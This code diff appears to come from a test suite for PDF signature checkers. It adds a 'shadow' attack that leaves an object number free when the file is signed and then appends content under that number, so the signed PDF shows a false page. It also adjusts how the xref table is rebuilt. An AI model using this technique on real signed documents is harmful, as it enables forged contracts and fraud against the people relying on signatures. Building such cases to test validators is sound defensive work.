@@ -198,6 +198,21 @@ def missing_content_supplied_later(world: World) -> bytes:
     return raw.append({777: stream(b"1 1 1 rg 60 690 500 40 re f 0 g " + FALSE_PAGE)})
 
 
+@attack("shadow: hide and replace")
+def free_number_used_later(world: World) -> bytes:
+    """The page refers to a number that is free when it is signed."""
+    with pikepdf.open(BytesIO(letter())) as pdf:
+        pdf.pages[0].obj.Contents = pikepdf.Array([pdf.pages[0].obj.Contents, pdf.make_stream(b"%PLACEHOLDER")])
+        data = _saved(pdf)
+    raw = Raw(data)
+    number = raw.number_of(b"%PLACEHOLDER")
+    start = raw.offset(number)
+    end = data.index(b"endobj", start) + len(b"endobj")
+    data = _table_rebuilt(data[:start] + data[end:])
+    raw = Raw(sign(data, world.pki.leader))
+    return raw.append({number: stream(b"1 1 1 rg 60 690 500 40 re f 0 g " + FALSE_PAGE)})
+
+
 def _table_rebuilt(data: bytes) -> bytes:
     """A classical file with its offsets put right again."""
     body = data[: data.rindex(b"xref\n0 ")]
@@ -205,7 +220,7 @@ def _table_rebuilt(data: bytes) -> bytes:
     trailer = re.findall(rb"trailer\s*<<.*?>>", data, re.DOTALL)[-1]
     table = b"xref\n0 %d\n0000000000 65535 f \n" % (max(offsets) + 1)
     for number in range(1, max(offsets) + 1):
-        table += b"%010d 00000 n \n" % offsets[number]
+        table += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00001 f \n"
     return body + table + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(body)
 
 
